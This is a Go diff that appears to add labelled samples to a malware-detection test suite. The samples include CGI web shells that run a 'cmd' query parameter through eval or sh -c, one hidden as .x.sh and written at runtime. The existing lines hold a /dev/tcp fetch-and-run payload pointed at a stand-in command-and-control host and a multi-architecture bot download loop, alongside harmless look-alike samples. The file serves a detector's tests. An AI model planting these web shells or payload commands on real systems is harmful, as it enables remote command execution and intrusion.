@@ -57,12 +57,29 @@ func entered() []Sample {
 		s.Ports = []string{"8080/tcp"}
 		return s
 	}
+	// A script that a web server starts, with what it was asked for in $asked.
+	const asks = "#!/bin/sh\nprintf 'Content-Type: text/plain\\r\\n\\r\\n'\nasked=${QUERY_STRING#*cmd=}\nasked=$(httpd -d \"${asked%%&*}\")\n"
+	cgi := func(text string) Spec {
+		return Spec{
+			Entrypoint: []string{"/bin/httpd", "-f", "-p", "8080", "-h", "/var/www/html"}, Ports: []string{"8080/tcp"},
+			Files: map[string]string{"/var/www/html/cgi-bin/status.cgi": asks + text, "/var/www/html/index.html": "<h1>It works</h1>\n"},
+		}
+	}
+	repeats := cgi("")
+	repeats.Files["/var/www/html/cgi-bin/status.cgi"] = "#!/bin/sh\nprintf 'Content-Type: text/plain\\r\\n\\r\\n'\ndate\necho \"you asked for: $QUERY_STRING\"\n"
+	written := script("mkdir -p /srv/site/cgi-bin\ncp /srv/template /srv/site/cgi-bin/.x.sh\nexec httpd -f -p 8080 -h /srv/site\n")
+	written.Files["/srv/template"], written.Ports = asks+"sh -c \"$asked\"\n", []string{"8080/tcp"}
 	return []Sample{
 		shows("shell-devtcp/fetch-and-run", bash("exec 3<>/dev/tcp/203.0.113.90/80\nprintf 'GET /job.sh HTTP/1.0\\r\\nHost: c2.test\\r\\n\\r\\n' >&3\ncat <&3 | sed '1,/^.\\{0,1\\}$/d' | sh\n"), malicious, "203.0.113.90:80"),
 		shows("shell-devtcp/port-test", bash("echo > /dev/tcp/db.example.test/5432 && echo up\n"), harmless, ":5432"),
 		nearly("shell-devtcp/only-says-so", bash("echo 'a test for /dev/tcp/127.0.0.1/80'\n")),
 		shows("webshell-exec/parameter", served("webshell"), malicious, "echo "),
 		nearly("webshell-exec/own-children", served("date-page")),
+		shows("webshell-exec/behind-a-form", served("webshell-form"), malicious, "POST /tools/do", "echo "),
+		nearly("webshell-exec/own-form", served("contact-form")),
+		shows("webshell-exec/cgi-script", cgi("eval \"$asked\"\n"), malicious, "GET /cgi-bin/status.cgi", "X1337"),
+		nearly("webshell-exec/cgi-that-repeats", repeats),
+		shows("webshell-exec/written-when-it-runs", written, malicious, "GET /cgi-bin/.x.sh"),
 		shows("multiarch-download/all", script("for a in x86 mips mpsl arm7 sh4; do\n\twget -q -O /tmp/k.$a http://198.18.9.9/bins/k.$a\ndone\n"), malicious, "/bins/k.mpsl"),
 		nearly("multiarch-download/own-machine", script("wget -q -O /tmp/tool.tgz http://dl.example.test/tool-$(uname -m).tar.gz\nwget -q -O /tmp/tool.sum http://dl.example.test/tool-$(uname -m).sha256\necho done\n")),
 	}
